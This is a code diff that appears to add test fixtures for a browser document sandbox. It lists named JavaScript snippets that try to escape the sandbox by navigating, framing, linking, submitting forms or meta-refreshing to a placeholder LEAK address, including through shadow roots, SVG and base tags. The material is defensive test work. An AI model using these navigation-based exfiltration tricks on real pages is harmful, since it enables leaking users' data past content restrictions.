@@ -125,9 +125,45 @@ export const PEERS: Escapes = {
 /** Attempts to navigate the document itself. A refused navigation leaves an empty document. */
 export const NAVIGATIONS: Escapes = {
   'its own address': 'location.href = LEAK',
+  'location.replace': 'location.replace(LEAK)',
+  'a frame in markup': 'document.body.innerHTML = `<iframe src="${LEAK}"></iframe>`',
   'a link':
     'document.body.append(Object.assign(document.createElement("a"), { href: LEAK })); document.links[0].click()',
   'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + LEAK }))`,
+};
+
+/** Those for which the whole Chromium connects to the other host, without sending a byte, before it asks the policies.
+ *  A document cannot be without `location`, and its scripts can write markup. */
+export const CONNECTING: readonly string[] = ['its own address', 'location.replace', 'a frame in markup'];
+
+const LINK = 'document.body.insertAdjacentHTML("beforeend", `<a href="${LEAK}"><b>Buka</b></a>`)';
+const INNER = 'document.body.lastElementChild.firstElementChild';
+const FORM = 'document.body.insertAdjacentHTML("beforeend", `<form action="${LEAK}"><button>Kirim</button></form>`)';
+const SHADOW = 'const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" })';
+const DISPATCH = 'dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))';
+
+/** Links, forms and refreshes, which are taken away from a document: all of them keep it. */
+export const FOLLOWED: Escapes = {
+  'an element in a link': `${LINK}; ${INNER}.click()`,
+  'an event of a link': `${LINK}; ${INNER}.${DISPATCH}`,
+  'a link that stops its event': `${LINK}; document.body.lastElementChild.onclick = (e) => e.stopPropagation(); ${INNER}.click()`,
+  'a link that cancels its bubbling': `${LINK}; document.body.lastElementChild.onclick = (e) => { e.cancelBubble = true; }; ${INNER}.click()`,
+  'a link with a base': `document.head.insertAdjacentHTML("beforeend", \`<base href="\${LEAK}">\`);
+    document.body.append(Object.assign(document.createElement("a"), { href: "#x" })); document.body.lastElementChild.click();
+    document.querySelector("base").remove()`,
+  'a link outside of the document': `document.createElement("p").appendChild(Object.assign(document.createElement("a"), { href: LEAK })).click()`,
+  'a link in a shadow root': `${SHADOW}; root.innerHTML = \`<a href="\${LEAK}"><b>Buka</b></a>\`; root.querySelector("b").click()`,
+  'a link of SVG': `document.body.insertAdjacentHTML("beforeend", \`<svg><a href="\${LEAK}"><text>Buka</text></a></svg>\`);
+    document.querySelector("text").${DISPATCH}`,
+  'the button of a form': `${FORM}; ${INNER}.click()`,
+  'a form that is asked': `${FORM}; document.body.lastElementChild.requestSubmit()`,
+  'a form that stops its event': `${FORM}; document.body.lastElementChild.onsubmit = (e) => e.stopImmediatePropagation(); ${INNER}.click()`,
+  'a form in a shadow root': `${SHADOW}; root.innerHTML = \`<form action="\${LEAK}"><button>Kirim</button></form>\`; root.querySelector("button").click()`,
+  'a window in its place': 'open(LEAK, "_self")',
+  'a refresh in markup':
+    'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Refresh" content="0;url=${LEAK}">`)',
+  'a refresh after a while': `await new Promise((yes) => setTimeout(yes, 300)); document.head.append(document.createElement('meta'));
+    document.head.lastChild.content = '0;url=' + LEAK; document.head.lastChild.setAttribute('http-equiv', 'refresh')`,
 };
 
 export const WORKER_ESCAPES: Escapes = BOTH;
